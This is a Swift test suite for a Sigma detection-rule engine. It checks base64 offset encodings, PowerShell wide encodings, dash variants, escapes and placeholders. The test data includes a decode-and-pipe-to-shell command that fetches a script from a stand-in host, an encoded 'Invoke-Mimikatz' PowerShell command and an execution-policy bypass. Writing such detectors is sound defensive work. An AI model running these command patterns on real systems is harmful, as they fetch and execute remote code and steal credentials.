import Foundation
import Model
import Testing
@testable import SignalServer

@Suite struct SigmaEncodingTests {
    /// The fragments SigmaHQ's rules list for these values (pySigma computes the same).
    static let base64offsetExamples: [(value: String, encoding: SigmaTextEncoding, fragments: [String])] = [
        ("http://", .utf8, ["aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"]),
        ("/bin/bash", .utf8, ["L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"]),
        ("IEX", .utf8, ["SUVY", "lFW", "JRV"]),
        ("Invoke-", .utf16le, ["SQBuAHYAbwBrAGUALQ", "kAbgB2AG8AawBlAC0A", "JAG4AdgBvAGsAZQAtA"]),
    ]

    @Test(arguments: base64offsetExamples.indices)
    func base64offsetMatchesSigma(_ i: Int) {
        let e = Self.base64offsetExamples[i]
        #expect(SigmaEncoding.base64Offsets(e.encoding.bytes(e.value)) == e.fragments)
    }

    @Test func base64offsetFindsTheValueAtEveryOffsetOfAnEncodedCommand() throws {
        let yaml = Sigma.rule(Sigma.selection("CommandLine|base64offset|contains", "'http://'"), logsource: "category: process_creation")
        let (filter, problems) = Sigma.filter(yaml)
        #expect(problems.isEmpty)
        #expect(filter == .any(["aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"].map { .test(field: "process.command_line", .contains($0)) }))
        let matcher = try Matcher(try #require(filter))
        for prefix in ["", "a", "ab", "abc", "curl -s "] {
            let encoded = Data((prefix + "http://evil.example/x.sh").utf8).base64EncodedString()
            #expect(matcher.matches(["process.command_line": .string("echo \(encoded) | base64 -d | sh")]), "offset \(prefix.count)")
        }
        let other = Data("https://good.example".utf8).base64EncodedString()
        #expect(!matcher.matches(["process.command_line": .string("echo \(other) | base64 -d")]))
    }

    @Test func wideBase64offsetFindsPowerShellEncodedCommands() throws {
        let yaml = Sigma.rule(Sigma.selection("CommandLine|wide|base64offset|contains", "'Invoke-'"), logsource: "category: process_creation")
        let matcher = try #require(Sigma.matcher(Sigma.filter(yaml).filter))
        for prefix in ["", "x", "$a;"] {
            let utf16 = (prefix + "Invoke-Mimikatz").utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
            #expect(matcher.matches(["process.command_line": .string("powershell -enc " + Data(utf16).base64EncodedString())]))
        }
    }

    @Test func utf16EncodingsAreTheOnesSigmaNames() {
        #expect(SigmaTextEncoding.utf16le.bytes("cmd") == [0x63, 0, 0x6D, 0, 0x64, 0])
        #expect(SigmaTextEncoding.utf16be.bytes("cmd") == [0, 0x63, 0, 0x6D, 0, 0x64])
        #expect(SigmaTextEncoding.utf16.bytes("cmd") == [0xFF, 0xFE, 0x63, 0, 0x6D, 0, 0x64, 0])
        #expect(SigmaEncoding.base64(SigmaTextEncoding.utf8.bytes("whoami")) == "d2hvYW1p")
    }

    static let dashes = ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"]

    @Test func windashVariesOnlyFlagDashes() throws {
        // Only the dash that starts a word is a flag: `-param-name` keeps its inner dash.
        let variants = try SigmaEncoding.windash(SigmaString(sigma: " -param-name")).map(\.display)
        #expect(variants == Self.dashes.map { " \($0)param-name" })
        // A slash starts a flag too; every flag varies on its own.
        let two = try SigmaEncoding.windash(SigmaString(sigma: "/c -f")).map(\.display)
        #expect(two.count == 25)
        #expect(two.contains("-c /f") && two.contains("\u{2013}c \u{2014}f") && two.contains("/c -f"))
        // Dashes inside words or before a non-word are left alone.
        #expect(try SigmaEncoding.windash(SigmaString(sigma: "a-b - x")).map(\.display) == ["a-b - x"])
    }

    @Test func windashSelectionMatchesEveryDashAnAttackerMightType() throws {
        let yaml = Sigma.rule(Sigma.selection("CommandLine|windash|contains", "' -exec bypass'"), logsource: "category: process_creation")
        let (filter, problems) = Sigma.filter(yaml)
        #expect(problems.isEmpty)
        #expect(filter == .any(Self.dashes.map { .test(field: "process.command_line", .contains(" \($0)exec bypass")) }))
        let matcher = try Matcher(try #require(filter))
        for d in Self.dashes {
            #expect(matcher.matches(["process.command_line": .string("powershell.exe \(d)exec bypass -f x.ps1")]), "dash \(d)")
        }
        #expect(!matcher.matches(["process.command_line": "powershell.exe exec bypass"]))
    }

    @Test func windashWithoutPositionIsOneOfTheWholeValues() {
        let yaml = Sigma.rule(Sigma.selection("CommandLine|windash", "'-s'"), logsource: "category: process_creation")
        #expect(Sigma.filter(yaml).filter == .test(field: "process.command_line", .oneOf(Self.dashes.map { .text("\($0)s") })))
    }

    @Test func sigmaStringsReadEscapesAsTheSpecificationSays() {
        // `\*` is a literal star; a backslash before a wildcard is written `\\`.
        #expect(SigmaString(sigma: #"C:\Windows\*"#).plain == #"C:\Windows*"#)
        #expect(SigmaString(sigma: #"C:\Windows\\*"#).glob == #"C:\\Windows\\*"#)
        #expect(SigmaString(sigma: #"a\*b\?c"#).plain == "a*b?c")
        #expect(SigmaString(sigma: #"trailing\"#).plain == #"trailing\"#)
        #expect(SigmaString(sigma: "a*b?").glob == "a*b?")
        #expect(SigmaString(sigma: #"a\*b"#).glob == #"a\*b"#)
    }

    @Test func placeholdersMultiplyAndLeavePercentSignsAlone() throws {
        let p = ["a": ["1", "2"], "b": ["x"]]
        #expect(try SigmaEncoding.expand("%a%-%b%", placeholders: p) == ["1-x", "2-x"])
        #expect(try SigmaEncoding.expand("100% sure", placeholders: p) == ["100% sure"])
        #expect(throws: RuleError.self) { try SigmaEncoding.expand("%missing%", placeholders: p) }
    }
}
